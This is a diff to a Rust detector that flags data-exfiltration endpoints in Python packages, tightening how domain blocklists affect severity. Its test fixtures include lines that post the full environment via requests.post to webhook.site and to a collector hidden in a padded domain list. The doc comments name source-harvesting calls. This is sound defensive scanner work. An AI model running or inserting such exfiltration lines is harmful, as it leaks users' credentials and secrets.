@@ -10,7 +10,9 @@
 //! (`bot{0}/{1}`, `bot%s/`): exfiltration needs a sensitive source reaching the sink.
 //!
 //! A destination by reputation that is one bare-domain literal among many (a disposable-mail
-//! blocklist) is Low: a list of domains is data about them.
+//! blocklist) is Low: a list of domains is data about them — unless the file harvests (words
+//! inside the list's own domain literals do not count), so 20 padding domains cannot hide a
+//! collector that the environment is posted to.
 //!
 //! Harvesting includes reading the importing program's own source (`open(sys.argv[0])`,
 //! `inspect.getsource(sys.modules['__main__'])`): code theft from whoever imports the package.
@@ -45,7 +47,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "network.exfiltration-endpoint",
-    revision: 7,
+    revision: 8,
     title: "Contains endpoints commonly used for data exfiltration.",
     category: Category::Network,
     severity: Severity::High,
@@ -166,6 +168,15 @@ fn in_domain_list(src: &super::pysrc::Source<'_>, start: usize, end: usize) -> b
     BARE_DOMAIN_LITERAL.find_iter(&src.text[lo..hi]).take(DOMAIN_LIST_MIN + 1).count() > DOMAIN_LIST_MIN
 }
 
+/// Whether byte `at` lies inside a string literal holding one bare domain name: a harvest word
+/// there (`"mywallet.example"` in a blocklist) names a domain, it reads nothing.
+fn in_bare_domain_literal(src: &super::pysrc::Source<'_>, at: usize) -> bool {
+    src.span_at(at).filter(|s| s.kind == Kind::Str).is_some_and(|s| {
+        let body = &src.text[s.body_start..s.body_end];
+        BARE_DOMAIN_LITERAL.find(&format!("'{body}'")).is_some_and(|m| m.len() == body.len() + 2)
+    })
+}
+
 /// Whether the host at byte `start` is the domain of an e-mail address (`name@host`): a
 /// local part right before `@`, itself not preceded by `/` or `:` (a URL's `user@host` or
 /// `user:password@host` userinfo names the host it connects to).
@@ -208,6 +219,17 @@ impl Detector for ExfilEndpoint {
                 } else {
                     super::context::is_script(file) && HARVEST.is_match(file.text)
                 }
+            })
+        };
+        // The same, with harvest words inside bare-domain literals left out: a blocklist that
+        // names a wallet's domain harvests nothing, a file that reads the environment does.
+        let harvest_in_code = std::cell::OnceCell::new();
+        let harvests_in_code = || {
+            *harvest_in_code.get_or_init(|| {
+                harvests()
+                    && HARVEST
+                        .find_iter(file.text)
+                        .any(|m| src.is_live(m.start()) && !in_bare_domain_literal(src, m.start()))
             })
         };
         let mut found: Vec<(usize, String, Severity)> = Vec::new();
@@ -267,8 +289,9 @@ impl Detector for ExfilEndpoint {
                 continue;
             }
             // One bare domain among many in a list (a disposable-mail blocklist, a list of
-            // hosts to refuse): data about the host, not a place the code sends anything.
-            if src.python && in_domain_list(src, start, end) {
+            // hosts to refuse): data about the host, not a place the code sends anything —
+            // unless the file harvests, where padding a collector with 20 domains must not hide it.
+            if src.python && in_domain_list(src, start, end) && !harvests_in_code() {
                 found.push((start, format!("{host} ({}, one of a list of domains)", class.as_str()), Severity::Low));
                 continue;
             }
@@ -394,6 +417,11 @@ mod tests {
             (
                 "the same list beside a harvest posted to the request bin's URL",
                 format!("{list}requests.post('https://webhook.site/abc', data=dict(os.environ))\n"),
+                High,
+            ),
+            (
+                "a collector padded into a list of 60 domains, its entry posted the environment",
+                format!("{list}requests.post('https://' + blacklist_hosts[30] + '/abc', data=dict(os.environ))\n"),
                 High,
             ),
             (
